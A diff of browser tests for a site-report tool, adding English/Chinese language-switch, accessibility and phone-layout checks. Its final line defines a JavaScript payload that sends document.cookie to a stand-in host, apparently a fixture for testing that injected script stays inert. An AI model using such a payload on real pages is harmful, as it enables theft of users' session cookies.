@@ -20,7 +20,7 @@ from cleaners.values import Label
 from crawler.report.index import FIRST_ROWS, render_index
 from crawler.report.survey import read_survey
 from dute.cli import main
-from tests.axe import NOTHING, read_axe, violations
+from tests.axe import NOTHING, RUN, read_axe, violations
 from tests.browser import PHONE, WIDE, chromium, complaints, requested, resize
 from tests.invented_rows import MARKS, OUTCOMES, invented_rows
 from tests.report.test_explain import STORY
@@ -157,17 +157,80 @@ def test_runs_of_removed_blocks_fold(browser: Any, tmp_path: Path) -> None:
     assert (requested(browser), complaints(browser)) == ([], [])
 
 
-def test_the_report_of_a_page_breaks_no_rule_of_accessibility(browser: Any, tmp_path: Path) -> None:
+def speak(browser: Any, language: str) -> None:
+    """The language of the documents that are opened from now on."""
+    browser.execute_script("localStorage.setItem('dute-language', arguments[0])", language)
+
+
+@pytest.mark.parametrize("language", ["en", "zh"])
+def test_the_report_of_a_page_breaks_no_rule_of_accessibility(browser: Any, tmp_path: Path, language: str) -> None:
     source = read_axe()
     open_report(browser, tmp_path, LONG)
+    speak(browser, language)
     assert violations(browser, (tmp_path / "report.html").as_uri(), source) == NOTHING
+    assert browser.execute_script("return document.documentElement.lang") == language
+    find(browser, ".is-text .tag").click()
+    browser.execute_script(source)
+    assert browser.execute_async_script(RUN) == []  # the panel
+    speak(browser, "en")
 
 
-def test_the_index_breaks_no_rule_of_accessibility(browser: Any, tmp_path: Path) -> None:
+@pytest.mark.parametrize("language", ["en", "zh"])
+def test_the_index_breaks_no_rule_of_accessibility(browser: Any, tmp_path: Path, language: str) -> None:
     source = read_axe()
     document = render_index(read_survey("桥头", invented_rows()), outcomes=OUTCOMES, marks=MARKS)
     (tmp_path / "index.html").write_text(document, "utf-8")
+    browser.get((tmp_path / "index.html").as_uri())
+    speak(browser, language)
     assert violations(browser, (tmp_path / "index.html").as_uri(), source) == NOTHING
+    assert browser.execute_script("return document.documentElement.lang") == language
+    speak(browser, "en")
+
+
+#: What a reader sees or hears in the part of a document that is shown, but for code, keys and the page's own words.
+HEARD = """
+const own = "code, kbd, pre, script, style, noscript, blockquote, .words[lang], article > *, .fields dd, h1[lang], body[data-name] .origin, .address, .media, .title, .mark";
+const heard = [];
+const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
+while (walker.nextNode()) if (!walker.currentNode.parentElement.closest(own)) heard.push(walker.currentNode.data);
+for (const name of ["aria-label", "placeholder", "title", "label"])
+  for (const element of document.querySelectorAll(`[${name}]`)) heard.push(element.getAttribute(name));
+return [document.title, ...heard].map((text) => text.trim()).filter((text) => /[A-Za-z]{2}/.test(text));
+"""
+
+
+def test_the_report_of_a_page_speaks_chinese(opened: Any) -> None:
+    press(opened, *["\ue004"] * 3)  # Tab, over the skip link and the search
+    assert opened.execute_script("return document.activeElement.id") == "language"
+    press(opened, "\ue007")  # Enter
+    assert opened.execute_script("return document.documentElement.lang") == "zh"
+    assert text_of(opened, "#shown") == "8 段，133 字"
+    find(opened, ".chip[data-label=body]").click()
+    assert text_of(opened, "#shown") == "8 段中的 3 段，102 字"
+    find(opened, "#search").send_keys("编审")  # the Chinese name of a label
+    find(opened, ".chip[data-label=body]").click()
+    assert shown(opened) == ["credit"]
+    press(opened, "\ue00c", "\ue00c")
+    rule, hint, _ = draft(opened, "promo")
+    assert rule.startswith("Rule(")
+    assert "# 或整个元素：" in hint
+    assert text_of(opened, ".note") == "规则对所有站点有效，提示只对这个站点有效。补上其中一项，测试页面才会通过。"
+    press(opened, "\ue00c")
+    draft(opened, "body", "编辑 佟悦")
+    assert text_of(opened, ".why") == "现在的标签：编审 · 规则：credits.line（编审署名行：整行都是职务加姓名）"
+    heard = opened.execute_script(HEARD)
+    abouts = [text for text in heard if "cleaners/rules/" in text or "seeds/" in text or "keeps" in text]
+    assert set(heard) - set(abouts) == {
+        *("English", "English: switch to English", "桥上的灯又亮了 · dute", "没有符合的段落，按 Esc 显示全部。"),
+    }
+    press(opened, "\ue00c")
+    opened.refresh()  # the choice is remembered
+    assert text_of(opened, "#reset") == "显示全部"
+    find(opened, "#language").click()
+    assert opened.execute_script("return document.documentElement.lang") == "en"
+    assert text_of(opened, ".why") == "Label:  · Rule: "
+    languages = "return [...document.querySelectorAll('article [lang], article')].map((one) => one.lang)"
+    assert set(opened.execute_script(languages)) == {"zh", "en"}  # the page's words, and ours between them
 
 
 def test_light_and_dark(opened: Any) -> None:
@@ -183,7 +246,11 @@ def test_light_and_dark(opened: Any) -> None:
     opened.execute_script("localStorage.clear()")
 
 
-def test_a_phone_shows_one_column_and_nothing_beside_the_screen(opened: Any) -> None:
+@pytest.mark.parametrize("language", ["zh", "en"])
+def test_a_phone_shows_one_column_and_nothing_beside_the_screen(opened: Any, language: str) -> None:
+    speak(opened, language)
+    opened.refresh()
+    speak(opened, "en")
     resize(opened, PHONE)
     assert not find(opened, "#article").is_displayed()
     find(opened, "[data-view=article]").click()
@@ -287,16 +354,40 @@ def test_the_index_is_searched_sorted_and_left_for_a_page(index: Any) -> None:
     assert text_of(index, "h1") == "桥头"
 
 
+def test_the_index_speaks_chinese(index: Any) -> None:
+    find(index, "#language").click()
+    assert index.execute_script("return document.documentElement.lang") == "zh"
+    assert text_of(index, ".marks li").startswith("自 2025-03-03 起：缺少编审 · 首个页面")
+    flags = {"template_disagrees", "date_without_year"}
+    heard = index.execute_script(HEARD)
+    assert {text for text in heard if not any(text.endswith(flag) for flag in flags)} <= {
+        *("English", "English: switch to English", "桥头 · dute 站点报告"),
+    }
+    assert {text for text in heard if "_" in text} == {"与模板不符 template_disagrees", "日期缺年份 date_without_year"}
+    find(index, "#search").send_keys("与模板不符")
+    assert 0 < index.execute_script("return document.querySelectorAll('.page:not([hidden])').length") < 400
+    index.refresh()
+    assert text_of(index, "#more") == "显示全部 400 篇"
+    find(index, "#language").click()
+    assert text_of(index, "#pages-title").startswith("Pages most doubtful first")
+
+
+@pytest.mark.parametrize("language", ["en", "zh"])
 @pytest.mark.parametrize("dark", [False, True], ids=["light", "dark"])
-def test_the_index_fits_a_phone(index: Any, dark: bool) -> None:
+def test_the_index_fits_a_phone(index: Any, dark: bool, language: str) -> None:
+    speak(index, language)
+    index.refresh()
     resize(index, PHONE, dark=dark)
     assert index.execute_script("return document.documentElement.scrollWidth") <= PHONE[0]
+    boxes = "return [...document.querySelectorAll('.scroll')].map(box => box.scrollWidth - box.clientWidth)"
+    assert index.execute_script(boxes) == [0]
     top = "return document.querySelector('#pages').getBoundingClientRect().top + scrollY"
     assert index.execute_script(top) < 1.5 * PHONE[1]  # figures and the plot over time stand above it, and no list
     paths = (
         "return [...document.querySelectorAll('.spark path')].every(p => p.getBBox().width > 0 || !p.getAttribute('d'))"
     )
     assert index.execute_script(paths)
+    speak(index, "en")
 
 
 FIRE = "window.fired = 1; fetch('https://evil.invalid/' + document.cookie)"
